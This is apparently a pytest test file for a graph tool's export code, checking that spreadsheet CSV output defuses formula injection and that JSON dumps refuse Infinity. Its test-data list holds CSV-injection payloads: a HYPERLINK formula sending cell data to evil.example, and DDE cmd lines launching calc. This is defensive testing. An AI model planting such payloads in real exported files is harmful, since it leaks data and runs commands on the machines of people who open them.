"""What the product writes for other programs cannot be turned against them (issue 10): CSV
for spreadsheets neutralises formulas, the neo4j-admin CSV keeps values exact (it is loader
data) and says so, and the JSON dump never holds NaN or Infinity."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from graph.batch import NodeRow
from graph.errors import ValidationError
from graph.exports import export
from graph.exports.formats import SPREADSHEET_WARNING
from graph.stores import LadybugStore
from graph.stores.base import QueryResult
from ingest.pipeline import ingest_paths

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_console_csv_neutralises_formulas(formula: str) -> None:
    result = QueryResult(columns=["name", formula], rows=[[formula, -5], ["Denmark", 2.5]])
    rows = _cells(result.to_csv())
    assert rows[0] == ["name", "'" + formula]  # a column named by the query, too
    assert rows[1] == ["'" + formula, "-5"]  # a number stays a number
    assert rows[2] == ["Denmark", "2.5"]


def test_plain_values_are_unchanged_in_the_console_csv() -> None:
    result = QueryResult(
        columns=["a", "b", "c", "d"], rows=[["", "Hải Phòng", {"id": "dk"}, ["x", "=y"]]]
    )
    assert _cells(result.to_csv())[1] == ["", "Hải Phòng", '{"id": "dk"}', '["x", "=y"]']


@pytest.fixture
def with_formula(empty_store: LadybugStore, tmp_path: Path) -> LadybugStore:
    path = tmp_path / "formula.yaml"
    path.write_text(
        "source: {id: formula, name: F}\n"
        'nodes:\n  - {label: Sector, id: evil, name: \'=HYPERLINK("http://x","y")\'}\n',
        encoding="utf-8",
    )
    ingest_paths(empty_store, [path])
    return empty_store


def test_a_formula_from_the_graph_reaches_the_console_csv_neutralised(
    with_formula: LadybugStore,
) -> None:
    result = with_formula.query_readonly("MATCH (s:Sector {id: 'evil'}) RETURN s.name AS name")
    assert _cells(result.to_csv())[1] == ['\'=HYPERLINK("http://x","y")']


def test_the_neo4j_admin_csv_keeps_values_exact_and_warns(
    with_formula: LadybugStore, tmp_path: Path
) -> None:
    """Decision (docs/decisions.md, session 4): loader data, not a spreadsheet; a quote
    added here would be stored in Neo4j as part of the name."""
    files = export(with_formula, "csv", tmp_path / "csv")
    sectors = next(f for f in files if f.name == "nodes_Sector.csv")
    rows = _cells(sectors.read_text(encoding="utf-8"))
    assert rows[1][:2] == ["evil", '=HYPERLINK("http://x","y")']
    script = next(f for f in files if f.name == "import.sh").read_text(encoding="utf-8")
    assert SPREADSHEET_WARNING in script and "Do not open them in" in script


def test_the_json_dump_never_writes_infinity(empty_store: LadybugStore, tmp_path: Path) -> None:
    """A graph written before numbers were checked may hold one: the dump is refused, naming
    the node, and no file is left (``json.dumps`` wrote ``Infinity`` before)."""
    empty_store.import_rows(
        [NodeRow("City", {"id": "inf-xx", "name": "Inf", "latitude": float("inf")})], []
    )
    out = tmp_path / "dump.jsonl"
    with pytest.raises(ValidationError, match=r"City 'inf-xx' has latitude=inf") as caught:
        export(empty_store, "json", out)
    assert caught.value.exit_code == 65 and "export another format" in str(caught.value)
    assert not out.exists() and list(tmp_path.glob("dump*")) == []
